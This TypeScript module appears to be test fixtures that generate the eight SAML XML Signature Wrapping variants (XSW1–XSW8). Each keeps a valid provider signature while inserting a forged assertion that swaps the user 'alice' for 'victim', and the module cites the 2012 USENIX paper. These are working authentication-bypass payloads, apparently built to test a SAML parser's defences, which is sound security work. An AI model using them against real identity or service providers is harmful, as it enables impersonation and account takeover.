import { assertionXml, responseXml, sign } from './forge.ts';

const signed = sign(assertionXml(), 'Assertion');
const signature = /<Signature[\s\S]*<\/Signature>/.exec(signed)?.[0] ?? '';
const original = signed.replace(signature, '');
const evil = original.replace('_assertion', '_evil').replace('>alice</saml:NameID>', '>victim</saml:NameID>');

const signedResponse = sign(responseXml(assertionXml()), 'Response');
const responseSignature = /<Signature[\s\S]*<\/Signature>/.exec(signedResponse)?.[0] ?? '';
const originalResponse = signedResponse.replace(responseSignature, '');

/** Puts XML in front of the closing tag of an element. */
const into = (xml: string, tag: string, more: string) => {
  const place = xml.lastIndexOf(`</${tag}>`);
  return xml.slice(0, place) + more + xml.slice(place);
};

const afterIssuer = (xml: string, more: string) =>
  xml.replace('</saml:Issuer>', () => `</saml:Issuer>${more}`);

const evilResponse = (signatures: string, more = '') =>
  afterIssuer(responseXml(evil), signatures)
    .replace('ID="_response"', 'ID="_evil_response"')
    .replace('</samlp:Response>', () => `${more}</samlp:Response>`);

/**
 * The eight shapes of signature wrapping, each with a valid signature of the provider's somewhere, and somebody else's name
 * where a careless reader looks for it.
 *
 * @see https://www.usenix.org/system/files/conference/usenixsecurity12/sec12-final91.pdf
 */
export const wrappings: Readonly<Record<string, string>> = {
  // The signed response inside of the signature of a forged one.
  XSW1: evilResponse(into(responseSignature, 'Signature', originalResponse)),
  // The signed response beside its signature, in a forged one.
  XSW2: evilResponse(originalResponse + responseSignature),
  // A forged assertion before the signed one.
  XSW3: responseXml(evil + signed),
  // The signed assertion inside of a forged one.
  XSW4: responseXml(into(evil, 'saml:Assertion', signed)),
  // The signature in a forged assertion, and what it signs beside it.
  XSW5: responseXml(afterIssuer(evil, signature) + original),
  // What is signed inside of the signature of a forged assertion.
  XSW6: responseXml(afterIssuer(evil, into(signature, 'Signature', original))),
  // A forged assertion in the extensions, where anything may be.
  XSW7: responseXml(`<samlp:Extensions>${evil}</samlp:Extensions>${signed}`),
  // What is signed in an object of the signature of a forged assertion.
  XSW8: responseXml(afterIssuer(evil, into(signature, 'Signature', `<Object>${original}</Object>`))),
};

/** The same document without any of this. */
export const unwrapped = responseXml(signed);
